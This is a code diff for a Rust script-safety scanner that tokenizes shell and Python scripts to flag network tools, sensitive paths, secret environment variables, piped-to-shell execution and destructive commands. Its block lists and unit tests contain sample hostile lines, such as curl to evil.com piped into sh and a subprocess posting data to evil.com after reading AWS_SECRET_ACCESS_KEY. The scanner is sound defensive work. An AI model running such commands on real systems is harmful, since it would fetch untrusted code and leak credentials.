@@ -1,15 +1,40 @@
+use crate::security::python_lexer::{self, TokenKind};
+use crate::security::shell_lexer::{self, Token, Word};
+use std::collections::HashMap;
+use std::fmt;
+
 #[derive(Debug, Clone, PartialEq)]
 pub enum RiskyPattern {
     NetworkCommand(String),
     SensitivePath(String),
     SystemModification(String),
     EnvironmentExfiltration(String),
+    DynamicExecution(String),
+    Uninspectable(String),
+}
+
+#[derive(Debug, Clone, PartialEq)]
+pub struct ScriptIssue {
+    pub pattern: RiskyPattern,
+    pub message: String,
+    pub line: usize,
+    pub column: usize,
+}
+
+impl fmt::Display for ScriptIssue {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        if self.line == 0 {
+            return write!(f, " {}", self.message);
+        }
+        write!(f, "{}:{}: {}", self.line, self.column, self.message)
+    }
 }
 
 #[derive(Debug, Clone, Default)]
 pub struct ScriptInspectionResult {
     pub warnings: Vec<String>,
     pub risky_patterns: Vec<RiskyPattern>,
+    pub issues: Vec<ScriptIssue>,
 }
 
 impl ScriptInspectionResult {
@@ -17,6 +42,42 @@ impl ScriptInspectionResult {
     pub fn has_warnings(&self) -> bool {
         !self.warnings.is_empty()
     }
+
+    fn record(&mut self, pattern: RiskyPattern, message: String, line: usize, column: usize) {
+        let issue = ScriptIssue {
+            pattern,
+            message,
+            line,
+            column,
+        };
+        if self.issues.contains(&issue) {
+            return;
+        }
+        self.warnings.push(issue.message.clone());
+        self.risky_patterns.push(issue.pattern.clone());
+        self.issues.push(issue);
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ScriptLanguage {
+    Shell,
+    Python,
+}
+
+impl ScriptLanguage {
+    #[must_use]
+    pub fn detect(file_name: &str, content: &str) -> Self {
+        let python_shebang = content
+            .lines()
+            .next()
+            .is_some_and(|l| l.starts_with("#!") && l.contains("python"));
+        if file_name.ends_with(".py") || python_shebang {
+            Self::Python
+        } else {
+            Self::Shell
+        }
+    }
 }
 
 const NETWORK_COMMANDS: &[&str] = &["curl", "wget", "nc", "netcat", "ncat", "socat"];
@@ -28,15 +89,6 @@ const SENSITIVE_PATHS: &[&str] = &[
     ".ssh/",
     "/root/",
 ];
-const DANGEROUS_PATTERNS: &[&str] = &[
-    "rm -rf /",
-    "rm -rf /*",
-    "chmod 777",
-    "chmod -R 777",
-    "> /dev/sd",
-    "mkfs.",
-    "dd if=",
-];
 const SENSITIVE_ENV_VARS: &[&str] = &[
     "AWS_SECRET",
     "AWS_ACCESS_KEY",
@@ -46,98 +98,461 @@ const SENSITIVE_ENV_VARS: &[&str] = &[
     "PRIVATE_KEY",
     "TOKEN",
 ];
-const EXECUTION_PATTERNS: &[&str] = &[
-    "eval $(",
-    "| bash",
-    "| sh",
-    "base64 -d |",
-    "base64 --decode |",
+const SHELL_INTERPRETERS: &[&str] = &[
+    "sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "perl", "ruby",
+];
+const SHELL_KEYWORDS: &[&str] = &[
+    "if", "then", "else", "elif", "do", "while", "until", "!", "{", "}", "time",
+];
+const COMMAND_WRAPPERS: &[&str] = &[
+    "sudo", "doas", "env", "exec", "command", "builtin", "nohup", "nice", "xargs", "setsid",
+];
+const PYTHON_NETWORK_MODULES: &[&str] = &[
+    "socket",
+    "requests",
+    "urllib",
+    "urllib2",
+    "urllib3",
+    "http",
+    "httpx",
+    "aiohttp",
+    "ftplib",
+    "smtplib",
+    "telnetlib",
+    "paramiko",
+    "websocket",
+    "websockets",
+];
+const PYTHON_DYNAMIC_CALLS: &[&str] = &["eval", "exec", "compile", "__import__"];
+const PYTHON_SHELL_CALLS: &[&str] = &[
+    "os.system",
+    "os.popen",
+    "os.execv",
+    "os.execvp",
+    "os.execl",
+    "os.execlp",
+    "pty.spawn",
 ];
 
 #[must_use]
 pub fn inspect_script_safety(content: &str) -> ScriptInspectionResult {
+    inspect_script(content, ScriptLanguage::detect("", content))
+}
+
+#[must_use]
+pub fn inspect_script(content: &str, language: ScriptLanguage) -> ScriptInspectionResult {
     let mut result = ScriptInspectionResult::default();
+    match language {
+        ScriptLanguage::Shell => {
+            ShellAnalyzer {
+                vars: HashMap::new(),
+                result: &mut result,
+            }
+            .analyze(&shell_lexer::tokenize(content));
+        }
+        ScriptLanguage::Python => inspect_python(content, &mut result),
+    }
+    result
+}
+
+struct ShellAnalyzer<'r> {
+    vars: HashMap<String, String>,
+    result: &'r mut ScriptInspectionResult,
+}
 
-    for line in content.lines() {
-        let line_lower = line.to_lowercase();
-
-        for cmd in NETWORK_COMMANDS {
-            if contains_command(&line_lower, cmd) {
-                result
-                    .warnings
-                    .push(format!("Network command detected: {cmd}"));
-                result
-                    .risky_patterns
-                    .push(RiskyPattern::NetworkCommand(cmd.to_string()));
+impl ShellAnalyzer<'_> {
+    fn analyze(&mut self, tokens: &[Token]) {
+        let mut words: Vec<&Word> = Vec::new();
+        let mut piped = false;
+        let mut redirect_pending = false;
+
+        for token in tokens {
+            match token {
+                Token::Word(word) if redirect_pending => {
+                    redirect_pending = false;
+                    self.check_redirect_target(word);
+                    self.check_word(word);
+                }
+                Token::Word(word) => words.push(word),
+                Token::Redirect { .. } => redirect_pending = true,
+                Token::Pipe { .. } => {
+                    self.command(&words, piped);
+                    words.clear();
+                    piped = true;
+                }
+                Token::Separator { .. } => {
+                    self.command(&words, piped);
+                    words.clear();
+                    piped = false;
+                }
             }
         }
+        self.command(&words, piped);
+    }
+
+    fn check_word(&mut self, word: &Word) {
+        if let Some(path) = SENSITIVE_PATHS.iter().find(|p| word.text.contains(*p)) {
+            self.result.record(
+                RiskyPattern::SensitivePath(path.to_string()),
+                format!("Sensitive path access: {path}"),
+                word.line,
+                word.column,
+            );
+        }
 
-        for path in SENSITIVE_PATHS {
-            if line.contains(path) {
-                result
-                    .warnings
-                    .push(format!("Sensitive path access: {path}"));
-                result
-                    .risky_patterns
-                    .push(RiskyPattern::SensitivePath(path.to_string()));
+        if let Some(device) = ["/dev/tcp/", "/dev/udp/"]
+            .iter()
+            .find(|d| word.text.contains(*d))
+        {
+            self.result.record(
+                RiskyPattern::NetworkCommand(device.trim_end_matches('/').to_string()),
+                format!("Network device access: {device}"),
+                word.line,
+                word.column,
+            );
+        }
+
+        for expansion in &word.expansions {
+            if let Some(var) = SENSITIVE_ENV_VARS
+                .iter()
+                .find(|v| expansion.name.contains(*v))
+            {
+                self.result.record(
+                    RiskyPattern::EnvironmentExfiltration(var.to_string()),
+                    format!("Sensitive environment variable: {}", expansion.name),
+                    expansion.line,
+                    expansion.column,
+                );
             }
         }
 
-        for pattern in DANGEROUS_PATTERNS {
-            if line_lower.contains(pattern) {
-                result
-                    .warnings
-                    .push(format!("Dangerous operation: {pattern}"));
-                result
-                    .risky_patterns
-                    .push(RiskyPattern::SystemModification(pattern.to_string()));
+        for substitution in &word.substitutions {
+            self.analyze(substitution);
+        }
+    }
+
+    fn check_redirect_target(&mut self, word: &Word) {
+        if word.text.starts_with("/dev/sd") || word.text.starts_with("/dev/nvme") {
+            self.result.record(
+                RiskyPattern::SystemModification("> /dev/sd".to_string()),
+                format!("Dangerous operation: write to {}", word.text),
+                word.line,
+                word.column,
+            );
+        }
+    }
+
+    fn command(&mut self, words: &[&Word], piped: bool) {
+        for word in words {
+            self.check_word(word);
+        }
+
+        let mut index = 0;
+        while let Some(word) = words.get(index) {
+            if word.is_assignment()
+                || (!word.quoted && SHELL_KEYWORDS.contains(&word.text.as_str()))
+            {
+                index += 1;
+            } else if !word.quoted && COMMAND_WRAPPERS.contains(&word.text.as_str()) {
+                index += 1;
+                while words
+                    .get(index)
+                    .is_some_and(|w| w.text.starts_with('-') || w.is_assignment())
+                {
+                    index += 1;
+                }
+            } else {
+                break;
             }
         }
 
-        for var in SENSITIVE_ENV_VARS {
-            if line.contains(&format!("${var}")) || line.contains(&format!("${{{var}")) {
-                result
-                    .warnings
-                    .push(format!("Sensitive environment variable: {var}"));
-                result
-                    .risky_patterns
-                    .push(RiskyPattern::EnvironmentExfiltration(var.to_string()));
+        let Some(command) = words.get(index) else {
+            for word in words.iter().filter(|w| w.is_assignment()) {
+                if let Some((name, _)) = word.text.split_once('=') {
+                    match self.resolve(word) {
+                        Some(value) => {
+                            let value = value.split_once('=').map_or("", |(_, v)| v);
+                            self.vars.insert(name.to_string(), value.to_string());
+                        }
+                        None => {
+                            self.vars.remove(name);
+                        }
+                    }
+                }
             }
+            return;
+        };
+
+        let Some(resolved) = self.resolve(command) else {
+            let source = command
+                .expansions
+                .iter()
+                .find(|e| !self.vars.contains_key(&e.name))
+                .map_or_else(|| "command substitution".to_string(), |e| e.raw.clone());
+            self.result.record(
+                RiskyPattern::DynamicExecution(source.clone()),
+                format!("Dynamic code execution: command name from {source}"),
+                command.line,
+                command.column,
+            );
+            return;
+        };
+
+        let name = resolved.rsplit('/').next().unwrap_or(&resolved);
+        let args = &words[index + 1..];
+        let record =
+            |result: &mut ScriptInspectionResult, pattern: RiskyPattern, message: String| {
+                result.record(pattern, message, command.line, command.column);
+            };
+
+        if NETWORK_COMMANDS.contains(&name) {
+            record(
+                self.result,
+                RiskyPattern::NetworkCommand(name.to_string()),
+                format!("Network command detected: {name}"),
+            );
+        }
+
+        if piped && SHELL_INTERPRETERS.contains(&name) {
+            record(
+                self.result,
+                RiskyPattern::DynamicExecution(format!("| {name}")),
+                format!("Dynamic code execution: output piped into {name}"),
+            );
         }
 
-        for pattern in EXECUTION_PATTERNS {
-            if line_lower.contains(pattern) {
-                result
-                    .warnings
-                    .push(format!("Dynamic code execution: {pattern}"));
-                result
-                    .risky_patterns
-                    .push(RiskyPattern::SystemModification(pattern.to_string()));
+        let has_arg = |wanted: &[&str]| args.iter().any(|a| wanted.contains(&a.text.as_str()));
+        let dangerous = match name {
+            "eval" => {
+                record(
+                    self.result,
+                    RiskyPattern::DynamicExecution("eval".to_string()),
+                    "Dynamic code execution: eval".to_string(),
+                );
+                None
             }
+            "rm" if is_recursive_force(args) && has_arg(&["/", "/*"]) => Some("rm -rf /"),
+            "chmod" if has_arg(&["777", "a+rwx"]) => Some("chmod 777"),
+            "dd" if args.iter().any(|a| a.text.starts_with("if=")) => Some("dd if="),
+            n if n.starts_with("mkfs") => Some("mkfs"),
+            _ => None,
+        };
+        if let Some(operation) = dangerous {
+            record(
+                self.result,
+                RiskyPattern::SystemModification(operation.to_string()),
+                format!("Dangerous operation: {operation}"),
+            );
         }
     }
 
-    result
+    fn resolve(&self, word: &Word) -> Option<String> {
+        if word.text.is_empty() && !word.substitutions.is_empty() {
+            return None;
+        }
+        let mut text = word.text.clone();
+        for expansion in &word.expansions {
+            let value = self.vars.get(&expansion.name)?;
+            text = text.replacen(&expansion.raw, value, 1);
+        }
+        Some(text)
+    }
+}
+
+fn is_recursive_force(args: &[&Word]) -> bool {
+    let flags: String = args
+        .iter()
+        .filter(|a| a.text.starts_with('-') && !a.text.starts_with("--"))
+        .map(|a| a.text.as_str())
+        .collect();
+    let long = |flag: &str| args.iter().any(|a| a.text == flag);
+    (flags.contains(['r', 'R']) || long("--recursive")) && (flags.contains('f') || long("--force"))
 }
 
-fn contains_command(line: &str, cmd: &str) -> bool {
-    let patterns = [
-        format!("{cmd} "),
-        format!("{cmd}\t"),
-        format!("{cmd}\n"),
-        format!(" {cmd}"),
-        format!("\t{cmd}"),
-        format!(";{cmd}"),
-        format!("|{cmd}"),
-        format!("$({cmd}"),
-        format!("`{cmd}"),
-    ];
+fn inspect_python(content: &str, result: &mut ScriptInspectionResult) {
+    let tokens = python_lexer::tokenize(content);
+    let mut index = 0;
+
+    while let Some(token) = tokens.get(index) {
+        match &token.kind {
+            TokenKind::Name(keyword) if keyword == "import" || keyword == "from" => {
+                let mut cursor = index + 1;
+                while let Some((module, next)) = dotted_name(&tokens, cursor) {
+                    let root = module.split('.').next().unwrap_or(&module);
+                    if PYTHON_NETWORK_MODULES.contains(&root) {
+                        let at = &tokens[cursor];
+                        result.record(
+                            RiskyPattern::NetworkCommand(root.to_string()),
+                            format!("Network module imported: {module}"),
+                            at.line,
+                            at.column,
+                        );
+                    }
+                    cursor = next;
+                    if keyword == "from" {
+                        break;
+                    }
+                    if matches!(&tokens.get(cursor).map(|t| &t.kind), Some(TokenKind::Name(n)) if n == "as")
+                    {
+                        cursor += 2;
+                    }
+                    if tokens.get(cursor).map(|t| &t.kind) != Some(&TokenKind::Op(',')) {
+                        break;
+                    }
+                    cursor += 1;
+                }
+                index = cursor;
+                continue;
+            }
+            TokenKind::Name(_) if index == 0 || tokens[index - 1].kind != TokenKind::Op('.') => {
+                if let Some((callee, next)) = dotted_name(&tokens, index) {
+                    check_python_environ(&callee, &tokens[next..], result);
+                    if tokens.get(next).map(|t| &t.kind) == Some(&TokenKind::Op('(')) {
+                        let end = matching_paren(&tokens, next);
+                        check_python_call(&callee, token, &tokens[next + 1..end], result);
+                    }
+                }
+            }
+            TokenKind::Str(value) => {
+                if let Some(path) = SENSITIVE_PATHS.iter().find(|p| value.contains(*p)) {
+                    result.record(
+                        RiskyPattern::SensitivePath(path.to_string()),
+                        format!("Sensitive path access: {path}"),
+                        token.line,
+                        token.column,
+                    );
+                }
+            }
+            _ => {}
+        }
+        index += 1;
+    }
+}
 
-    if line.starts_with(cmd) || line.ends_with(cmd) {
-        return true;
+fn dotted_name(tokens: &[python_lexer::Token], start: usize) -> Option<(String, usize)> {
+    let TokenKind::Name(first) = &tokens.get(start)?.kind else {
+        return None;
+    };
+    let mut name = first.clone();
+    let mut next = start + 1;
+    while tokens.get(next).map(|t| &t.kind) == Some(&TokenKind::Op('.')) {
+        let Some(TokenKind::Name(part)) = tokens.get(next + 1).map(|t| &t.kind) else {
+            break;
+        };
+        name.push('.');
+        name.push_str(part);
+        next += 2;
     }
+    Some((name, next))
+}
 
-    patterns.iter().any(|p| line.contains(p))
+fn matching_paren(tokens: &[python_lexer::Token], open: usize) -> usize {
+    let mut depth = 0usize;
+    for (offset, token) in tokens[open..].iter().enumerate() {
+        match token.kind {
+            TokenKind::Op('(') => depth += 1,
+            TokenKind::Op(')') => {
+                depth -= 1;
+                if depth == 0 {
+                    return open + offset;
+                }
+            }
+            _ => {}
+        }
+    }
+    tokens.len()
+}
+
+fn check_python_environ(
+    name: &str,
+    following: &[python_lexer::Token],
+    result: &mut ScriptInspectionResult,
+) {
+    if !(name.ends_with("environ") || name.ends_with("getenv") || name.ends_with("environ.get")) {
+        return;
+    }
+    for token in following
+        .iter()
+        .take_while(|t| t.kind != TokenKind::Newline)
+        .take(4)
+    {
+        if let TokenKind::Str(value) = &token.kind
+            && let Some(var) = SENSITIVE_ENV_VARS.iter().find(|v| value.contains(*v))
+        {
+            result.record(
+                RiskyPattern::EnvironmentExfiltration(var.to_string()),
+                format!("Sensitive environment variable: {value}"),
+                token.line,
+                token.column,
+            );
+        }
+    }
+}
+
+fn check_python_call(
+    callee: &str,
+    at: &python_lexer::Token,
+    args: &[python_lexer::Token],
+    result: &mut ScriptInspectionResult,
+) {
+    let record = |result: &mut ScriptInspectionResult, pattern: RiskyPattern, message: String| {
+        result.record(pattern, message, at.line, at.column);
+    };
+
+    if PYTHON_DYNAMIC_CALLS.contains(&callee) {
+        record(
+            result,
+            RiskyPattern::DynamicExecution(callee.to_string()),
+            format!("Dynamic code execution: {callee}()"),
+        );
+    }
+
+    let runs_command = PYTHON_SHELL_CALLS.contains(&callee) || callee.starts_with("subprocess.");
+    if runs_command {
+        let shell_true = args.windows(3).any(|w| {
+            w[0].kind == TokenKind::Name("shell".to_string())
+                && w[1].kind == TokenKind::Op('=')
+                && w[2].kind == TokenKind::Name("True".to_string())
+        });
+        if shell_true || PYTHON_SHELL_CALLS[..2].contains(&callee) {
+            record(
+                result,
+                RiskyPattern::DynamicExecution(callee.to_string()),
+                format!("Dynamic code execution: shell command via {callee}()"),
+            );
+        }
+
+        let command = args.iter().find_map(|t| match &t.kind {
+            TokenKind::Str(value) => Some((t, value)),
+            _ => None,
+        });
+        if let Some((token, command)) = command {
+            for issue in inspect_script(command, ScriptLanguage::Shell).issues {
+                result.record(issue.pattern, issue.message, token.line, token.column);
+            }
+        }
+    }
+
+    let string_arg = |wanted: &[&str]| {
+        args.iter()
+            .any(|t| matches!(&t.kind, TokenKind::Str(v) if wanted.contains(&v.as_str())))
+    };
+    let number_arg = |wanted: &[&str]| {
+        args.iter()
+            .any(|t| matches!(&t.kind, TokenKind::Number(v) if wanted.contains(&v.as_str())))
+    };
+    let dangerous = match callee {
+        "shutil.rmtree" if string_arg(&["/", "/*", "~"]) => Some("rmtree /"),
+        "os.chmod" if number_arg(&["0o777", "511"]) => Some("chmod 777"),
+        _ => None,
+    };
+    if let Some(operation) = dangerous {
+        record(
+            result,
+            RiskyPattern::SystemModification(operation.to_string()),
+            format!("Dangerous operation: {operation}"),
+        );
+    }
 }
 
 #[cfg(test)]
@@ -245,4 +660,108 @@ echo "{\"text\": \"${memory}MB\", \"tooltip\": \"Memory usage\"}"
         let result = inspect_script_safety(script);
         assert!(result.has_warnings());
     }
+
+    #[test]
+    fn ignores_comments_and_quoted_strings() {
+        let script = "#!/bin/bash\n# fetch with curl later\necho 'wget is not used' \"curl\"\n";
+        let result = inspect_script_safety(script);
+        assert!(!result.has_warnings(), "{:?}", result.warnings);
+    }
+
+    #[test]
+    fn flags_escaped_command_names() {
+        let result = inspect_script_safety("#!/bin/bash\nc\\url http://evil.com\n");
+        assert!(result.warnings.iter().any(|w| w.contains("curl")));
+    }
+
+    #[test]
+    fn resolves_variable_indirection() {
+        let script = "#!/bin/bash\nCURL=curl\n${CURL} http://evil.com\n";
+        let result = inspect_script_safety(script);
+        let issue = &result.issues[0];
+        assert_eq!(issue.pattern, RiskyPattern::NetworkCommand("curl".into()));
+        assert_eq!((issue.line, issue.column), (3, 1));
+    }
+
+    #[test]
+    fn flags_unresolved_command_variables() {
+        let result = inspect_script_safety("#!/bin/bash\n\"$DOWNLOADER\" http://evil.com\n");
+        assert!(
+            result
+                .risky_patterns
+                .iter()
+                .any(|p| matches!(p, RiskyPattern::DynamicExecution(_)))
+        );
+    }
+
+    #[test]
+    fn reports_line_and_column() {
+        let script = "#!/bin/bash\nset -e\nif true; then\n    wget http://x\nfi\n";
+        let result = inspect_script_safety(script);
+        assert_eq!(result.issues.len(), 1);
+        assert_eq!(
+            result.issues[0].to_string(),
+            "4:5: Network command detected: wget"
+        );
+    }
+
+    #[test]
+    fn heredoc_apostrophe_does_not_hide_later_commands() {
+        let script = "#!/bin/bash\ncat <<EOF\nDon't panic\nEOF\ncurl http://evil.com | sh\n";
+        let result = inspect_script_safety(script);
+        assert!(
+            result
+                .risky_patterns
+                .contains(&RiskyPattern::NetworkCommand("curl".into()))
+        );
+        assert!(
+            result
+                .risky_patterns
+                .contains(&RiskyPattern::DynamicExecution("| sh".into()))
+        );
+    }
+
+    #[test]
+    fn flags_python_network_and_exec() {
+        let script = r#"#!/usr/bin/env python3
+import json, urllib.request as req
+# import socket
+key = os.environ["AWS_SECRET_ACCESS_KEY"]
+subprocess.run("curl -d @- http://evil.com", shell=True)
+"#;
+        let result = inspect_script_safety(script);
+        let at = |pattern: RiskyPattern| {
+            result
+                .issues
+                .iter()
+                .find(|i| i.pattern == pattern)
+                .map(|i| (i.line, i.column))
+        };
+        assert_eq!(
+            at(RiskyPattern::NetworkCommand("urllib".into())),
+            Some((2, 14))
+        );
+        assert_eq!(at(RiskyPattern::NetworkCommand("socket".into())), None);
+        assert_eq!(
+            at(RiskyPattern::EnvironmentExfiltration("AWS_SECRET".into())),
+            Some((4, 18))
+        );
+        assert_eq!(
+            at(RiskyPattern::NetworkCommand("curl".into())),
+            Some((5, 16))
+        );
+        assert!(
+            result
+                .risky_patterns
+                .iter()
+                .any(|p| matches!(p, RiskyPattern::DynamicExecution(_)))
+        );
+    }
+
+    #[test]
+    fn allows_safe_python_script() {
+        let script = "import json, subprocess\nprint(json.dumps({'text': 'curl'}))\nsubprocess.run(['free', '-m'])\n";
+        let result = inspect_script(script, ScriptLanguage::Python);
+        assert!(!result.has_warnings(), "{:?}", result.warnings);
+    }
 }